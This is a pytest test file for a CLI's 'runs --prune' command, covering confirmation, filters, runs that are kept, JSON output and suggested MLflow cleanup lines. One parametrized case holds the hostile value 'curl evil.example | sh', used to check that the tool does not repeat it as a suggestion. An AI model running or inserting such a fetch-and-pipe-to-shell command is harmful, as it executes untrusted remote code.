"""`runs --prune`: what would go is shown first, what is confirmed goes, and the exit code tells when one could not."""

import json
import os
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
import typer
from robotrain.cli import arguments
from robotrain.cli.command_factory import get_plugins
from robotrain.cli.commands import prune as pruning
from robotrain.cli.output import handle_errors
from robotrain.model.run import RunRecord
from robotrain.store import records
from typer.testing import CliRunner

DAY = 24 * 3600
VENUS = """
from pathlib import Path
from robotrain.plugin import YES, Capabilities, Output, Platform, RunGone, Status, hook

class Venus(Platform):
    name, summary, capabilities = "venus", "", Capabilities(features={"runs_here": YES})
    def logs(self, reference, follow, tail=None):
        log = Path(reference["folder"]) / "log"
        yield from log.read_text().splitlines() if log.exists() else ()
    def status(self, reference):
        folder = Path(reference["folder"])
        if not folder.exists():
            raise RunGone("the volcano took it")
        state, ended = (folder / "state").read_text().split()
        return Status(state=state, ended=float(ended))
    def outputs(self, reference):
        uri = str(Path(reference["folder"]) / "checkpoint")
        return [Output(name="checkpoint", kind="checkpoint", source="local_path", uri=uri)]
    def remove_outputs(self, reference, dry_run=False):
        folder = Path(reference["folder"])
        if (folder / "stuck").exists() and not dry_run:
            raise PermissionError(13, "Permission denied", str(folder))
        freed = (folder / "checkpoint").stat().st_size
        if not dry_run:
            for path in folder.iterdir():
                path.unlink()
            folder.rmdir()
        return freed

class Saturn(Venus):
    name = "saturn"
    def remove_outputs(self, reference, dry_run=False):
        return None

@hook
def robotrain_platforms():
    return [Venus(), Saturn()]
"""


@dataclass
class Answer:
    exit_code: int
    stdout: str
    stderr: str

    @property
    def json(self):
        return json.loads(self.stdout)


@pytest.fixture(autouse=True)
def venus(install):
    install("acme", {"platform.venus": "acme_venus", "platform.saturn": "acme_venus"}, acme_venus=VENUS)


@pytest.fixture
def prune():
    app = typer.Typer()

    @app.command()
    def runs(
        ctx: typer.Context,
        run: str = typer.Argument(""),
        older_than: str = "",
        keep: int | None = None,
        state: str = "",
        platform: str = "",
        yes: bool = False,
        json: bool = False,
        dry_run: bool = False,
    ) -> None:
        with handle_errors(as_json=json):
            pruning.prune_runs(get_plugins(ctx), run, older_than, keep, state, platform, yes, json, dry_run)

    def run(*args: object, typed: str | None = None) -> Answer:
        result = CliRunner().invoke(app, [str(arg) for arg in args], input=typed)
        if result.exception and not isinstance(result.exception, SystemExit):
            raise result.exception
        return Answer(result.exit_code, result.stdout, result.stderr)

    return run


@pytest.fixture
def sent(tmp_path):
    """Record a run, so many days old; each is newer than the one before."""
    count = 0

    def sent(
        run: str,
        *,
        days: float,
        state: str = "succeeded",
        platform: str = "venus",
        sources: tuple[str, ...] = (),
        name: str = "",
    ) -> Path:
        nonlocal count
        count += 1
        folder = tmp_path / "venus" / run
        folder.mkdir(parents=True)
        (folder / "checkpoint").write_bytes(b"x" * 1000)
        (folder / "state").write_text(f"{state} {time.time() - days * DAY}")
        home = records.get_run_folder(run)
        (home / "plan").mkdir(parents=True)
        job = {"sources": [{"role": "policy", "kind": "local_path", "uri": uri} for uri in sources]}
        (home / "plan" / "robotrain-plan.json").write_text(json.dumps({"job": job}))
        (home / "claimed").touch()
        os.utime(home / "claimed", (count, count))
        fields: dict = {"platform": platform, "phase": "sent", "job": "0" * 64, "plan": "0" * 64, "settings": {}}
        fields |= {
            "created": time.time() - days * DAY - 60,
            "workload": "lerobot-train",
            "name": name,
            "reference": {"folder": str(folder)},
        }
        records.write_record(RunRecord(run=run, **fields))
        return folder

    return sent


def test_what_would_go_is_shown_with_its_size_and_stays_until_it_is_confirmed(prune, sent):
    sent("old-1", days=40)
    sent("new-1", days=2)
    answer = prune("--older-than", "30d")
    assert answer.exit_code == 0
    titles, row = (line.split() for line in answer.stdout.splitlines())
    assert titles == ["RUN", "STATE", "PLATFORM", "ENDED", "SIZE"]
    assert row == ["old-1", "succeeded", "venus", "40", "days", "ago", "1.0", "kB"]
    assert "1 run, 1.0 kB" in answer.stderr
    assert "nothing was removed: pass --yes" in answer.stderr
    assert records.list_runs() == ["new-1", "old-1"]


def test_what_is_confirmed_goes(prune, sent):
    old, new = sent("old-1", days=40), sent("new-1", days=2)
    answer = prune("--older-than", "30d", "--yes")
    assert answer.exit_code == 0
    assert answer.stdout.splitlines()[-1] == "1 run removed, 1.0 kB freed"
    assert (old.exists(), new.exists()) == (False, True)
    assert records.list_runs() == ["new-1"]


@pytest.mark.parametrize(("typed", "left"), [("y\n", []), ("\n", ["old-1"]), ("", ["old-1"])])
def test_at_a_terminal_the_question_is_asked(prune, sent, monkeypatch, typed, left):
    monkeypatch.setattr(arguments, "is_terminal", lambda stream: True)
    sent("old-1", days=40)
    answer = prune("--older-than", "30d", typed=typed)
    assert "remove 1 run? [y/N]" in answer.stderr
    assert records.list_runs() == left


def test_ctrl_c_at_the_question_removes_nothing_and_leaves_the_line(monkeypatch, capsys):
    class Stdin:
        def readline(self):
            raise KeyboardInterrupt

    monkeypatch.setattr(arguments, "is_terminal", lambda stream: True)
    monkeypatch.setattr("sys.stdin", Stdin())
    with pytest.raises(KeyboardInterrupt):
        arguments.confirm_removal("1 run", yes=False)
    assert capsys.readouterr().err == "remove 1 run? [y/N] \n"


def test_the_newest_stay(prune, sent):
    for number in range(1, 6):
        sent(f"run-{number}", days=10 - number)
    prune("--keep", "2", "--yes")
    assert records.list_runs() == ["run-5", "run-4"]


def test_only_those_in_a_state_or_on_a_platform_and_of_these_the_newest_stay(prune, sent):
    for number in range(1, 4):
        sent(f"bad-{number}", days=10 - number, state="failed")
        sent(f"good-{number}", days=10 - number)
    sent("far-1", days=99, state="failed", platform="saturn")
    prune("--keep", "1", "--state", "failed", "--platform", "venus", "--yes")
    assert sorted(records.list_runs()) == ["bad-3", "far-1", "good-1", "good-2", "good-3"]


def test_runs_that_go_on_broken_records_and_cut_off_submits_stay_and_it_is_said_why(prune, sent):
    sent("busy-1", days=40, state="running")
    sent("broken-1", days=40)
    (records.get_run_folder("broken-1") / "record.json").write_text("{")
    sent("cut-1", days=40)
    path = records.get_run_folder("cut-1") / "record.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"phase": "sending"}))
    answer = prune("--older-than", "30d", "--yes")
    assert answer.exit_code == 0
    assert "no run is old enough to be removed" in answer.stderr
    assert "busy-1 stays: it is running" in answer.stderr
    assert "broken-1 stays: " in answer.stderr
    assert "cut-1 stays: it is unknown whether venus accepted cut-1" in answer.stderr
    assert len(records.list_runs()) == 3


def test_a_run_that_a_newer_one_was_started_from_stays(prune, sent):
    base = sent("base-1", days=40)
    sent("tuned-1", days=2, sources=(str(base / "checkpoint"),))
    assert "base-1 stays: tuned-1 was started from it" in prune("--older-than", "30d", "--yes").stderr
    assert base.exists()
    prune("--older-than", "1d", "--yes")  # both together
    assert records.list_runs() == []


def test_of_a_platform_that_keeps_what_runs_left_only_the_record_goes_and_that_is_said(prune, sent):
    folder = sent("far-1", days=40, platform="saturn")
    answer = prune("--older-than", "30d", "--yes")
    assert answer.stdout.splitlines()[1].endswith("-")
    assert "the platform keeps their outputs" in answer.stderr
    assert folder.exists()
    assert records.list_runs() == []


def test_a_run_that_its_platform_no_longer_knows_goes(prune, sent):
    folder = sent("old-1", days=40)
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()
    prune("--older-than", "30d", "--yes")
    assert records.list_runs() == []


def test_a_run_whose_platform_is_not_installed_any_more_stays(prune, sent):
    sent("lost-1", days=40, platform="pluto")
    assert "lost-1 stays: no platform 'pluto' is installed" in prune("--older-than", "30d", "--yes").stderr


def test_one_that_cannot_be_removed_is_named_and_the_others_go(prune, sent):
    stuck = sent("stuck-1", days=50)
    (stuck / "stuck").touch()
    sent("old-1", days=40)
    answer = prune("--older-than", "30d", "--yes")
    assert answer.exit_code == 1
    assert "stuck-1 was not removed: PermissionError" in answer.stderr
    assert records.list_runs() == ["stuck-1"]


@pytest.mark.parametrize("named", ["pick", "pic"])
def test_one_run_is_removed_by_its_name_or_itself(prune, sent, named):
    sent("pick-1", days=1, name="pick")
    sent("place-1", days=40, name="place")
    assert prune(named, "--yes").stdout.splitlines()[-1] == "1 run removed, 1.0 kB freed"
    assert records.list_runs() == ["place-1"]


@pytest.mark.parametrize(
    ("words", "exit_code", "said"),
    [
        (["twin"], 2, ["2 runs have the name twin", "runs --prune b-1", "runs --prune a-1"]),
        (["base", "--keep", 3], 2, ["--keep cannot be used", "runs --prune base-1"]),
        (["base", "--state", "failed"], 2, ["--state cannot be used"]),
        (["nobody"], 2, ["there is no run 'nobody'"]),
        (["base"], 1, ["base-1 stays: tuned-1 was started from it"]),
        (["busy"], 1, ["busy-1 stays: it is running"]),
    ],
)
def test_a_named_run_that_is_not_removed(prune, sent, words, exit_code, said):
    sent("a-1", days=3, name="twin")
    sent("b-1", days=2, name="twin")
    base = sent("base-1", days=4)
    sent("tuned-1", days=1, sources=(str(base / "checkpoint"),))
    sent("busy-1", days=1, state="running")
    answer = prune(*words, "--yes")
    assert answer.exit_code == exit_code
    for fact in said:
        assert fact in answer.stderr
    assert len(records.list_runs()) == 5


def test_the_beginning_of_a_name_removes_nothing(prune, sent):
    sent("train-1", days=1, name="cups")
    answer = prune("cu", "--yes")
    assert answer.exit_code == 2
    assert "runs --prune train-1" in answer.stderr
    assert records.list_runs() == ["train-1"]
    assert prune("cups", "--yes").exit_code == 0


@pytest.mark.parametrize("words", [("--older-than", "30d"), ("old",)])
def test_a_dry_run_removes_nothing_although_yes_was_said(prune, sent, words):
    sent("old-1", days=40)
    answer = prune(*words, "--yes", "--dry-run")
    assert answer.exit_code == 0
    assert "old-1" in answer.stdout
    assert "nothing was removed" in answer.stderr
    assert records.list_runs() == ["old-1"]


@pytest.mark.parametrize(
    ("program", "is_said"), [("uvx mlflow@3.15.0", True), ("curl evil.example | sh; mlflow@3", False)]
)
def test_what_the_tracking_database_keeps_of_a_removed_run_is_said_with_the_lines_that_remove_it(
    prune, sent, tmp_path, program, is_said
):
    uri, run_id = f"sqlite:///{tmp_path / 'tracked' / 'mlflow.db'}", "0123456789abcdef" * 2
    artifacts = tmp_path / "tracked" / "artifacts" / "pick" / run_id
    artifacts.mkdir(parents=True)
    (tmp_path / "tracked" / "mlflow.db").touch()
    (artifacts / "model").write_bytes(os.urandom(2_000_000))
    fields = {"event": "tracking", "uri": uri, "experiment_id": "1", "run_id": run_id}
    started = f"{program} ui --backend-store-uri {uri}"
    for run in ("old-1", "older-1"):
        (sent(run, days=40) / "log").write_text(f"::robotrain:: {json.dumps(fields | {'time': 1.0, 'ui': started})}\n")
    answer = prune("old-1", "--yes", "--json")
    assert [(one["run"], one["run_id"]) for one in answer.json["tracked"]] == [("old-1", run_id)] * is_said
    assert ("MLflow still has 1 run, with 2.0 MB" in answer.stderr) == is_said
    assert (f"{program} runs delete --run-id {run_id}\n" in answer.stderr) == is_said
    assert (f"{program} gc --tracking-uri {uri} --backend-store-uri {uri} --run-ids {run_id}" in answer.stderr) == (
        is_said
    )
    assert "MLflow" not in prune("older-1").stderr  # nothing was removed


@pytest.mark.parametrize(
    ("typed", "offered"),
    [
        ("rm pick", ["runs --prune pick", "runs --prune --older-than 30d", "cache --prune"]),
        ("delete", ["runs --prune RUN"]),
        ("clean", ["runs --prune --older-than 30d", "cache --prune --unused 30d"]),
        ("tail", ["logs -f RUN"]),
        ("launch", ["submit job.yaml"]),
        ("compare a", ["diff a RUN"]),
    ],
)
def test_words_of_other_tools_lead_to_the_line_with_the_run(robotrain, typed, offered):
    answer = robotrain(*typed.split())
    assert answer.exit_code == 2
    for line in offered:
        assert f"robotrain {line}" in answer.stderr


def test_prune_alone_says_what_it_needs_to_know(prune, sent):
    sent("old-1", days=40)
    answer = prune("--yes")
    assert answer.exit_code == 2
    assert "--prune needs --older-than or --keep" in answer.stderr
    assert "robotrain runs --prune --keep 20" in answer.stderr
    assert prune("--older-than", "long", "--yes").exit_code == 2
    assert records.list_runs() == ["old-1"]


def test_the_json_is_an_api(prune, sent):
    sent("old-1", days=40)
    sent("busy-1", days=40, state="running")
    shown = prune("--older-than", "30d", "--json").json
    (run,) = shown["runs"]
    assert time.time() - run.pop("ended") > 39 * DAY
    assert run == {"run": "old-1", "platform": "venus", "state": "succeeded", "bytes": 1000, "removed": False}
    assert shown["staying"] == [{"run": "busy-1", "why": "it is running"}]
    assert prune("--older-than", "30d", "--yes", "--json").json["runs"][0]["removed"] is True


@pytest.mark.parametrize(
    ("options", "refused"),
    [
        (("--older-than", "30d"), "--older-than has no effect without --prune"),
        (("-y",), "--yes has no effect without --prune"),
        (("--prune", "--keep", 0, "-n", 3), "-n cannot be used with --prune"),
    ],
)
def test_options_of_prune_without_it_are_refused(robotrain, options, refused):
    answer = robotrain("runs", *options)
    assert answer.exit_code == 2
    assert refused in answer.stderr
